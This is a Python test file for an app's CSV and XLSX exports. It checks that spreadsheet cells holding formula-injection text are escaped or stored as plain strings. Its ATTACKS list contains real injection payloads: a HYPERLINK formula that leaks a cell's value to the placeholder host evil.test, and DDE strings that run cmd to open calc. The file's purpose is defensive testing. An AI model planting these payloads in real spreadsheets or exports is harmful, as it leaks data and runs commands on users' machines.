"""One formula guard for every export: a resident's text never runs in a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tessera.core import exports

ATTACKS = [
    '=HYPERLINK("https://evil.test/?leak="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def read_csv(response: object) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_csv_cell_that_would_run_is_kept_as_text(attack: str) -> None:
    rows = read_csv(exports.csv_response("x.csv", [["title"], [attack]]))
    assert rows[1] == ["'" + attack]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_xlsx_cell_that_would_run_is_a_string_cell(attack: str) -> None:
    response = exports.xlsx_response("x.xlsx", [("Sheet", [["title"], [attack]])])
    cell = load_workbook(io.BytesIO(response.content)).active["A2"]  # type: ignore[index]
    assert cell.value == attack.replace("\r", "\n")  # XML keeps no lone CR
    assert cell.data_type == "s"


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    rows = read_csv(exports.csv_response("x.csv", [["a", "b", "c"], [-12, "Des bancs", None]]))
    assert rows[1] == ["-12", "Des bancs", ""]
    response = exports.xlsx_response("x.xlsx", [("S", [["n"], [-12]])])
    assert load_workbook(io.BytesIO(response.content)).active["A2"].value == -12  # type: ignore[index]


def test_a_streamed_csv_is_the_same_file() -> None:
    rows = [["title"], ["=1+1"], ["ok"]]
    streamed = exports.csv_response("x.csv", iter(rows), stream=True)
    body = b"".join(streamed.streaming_content).decode("utf-8-sig")  # type: ignore[union-attr]
    assert body == exports.csv_response("x.csv", rows).content.decode("utf-8-sig")
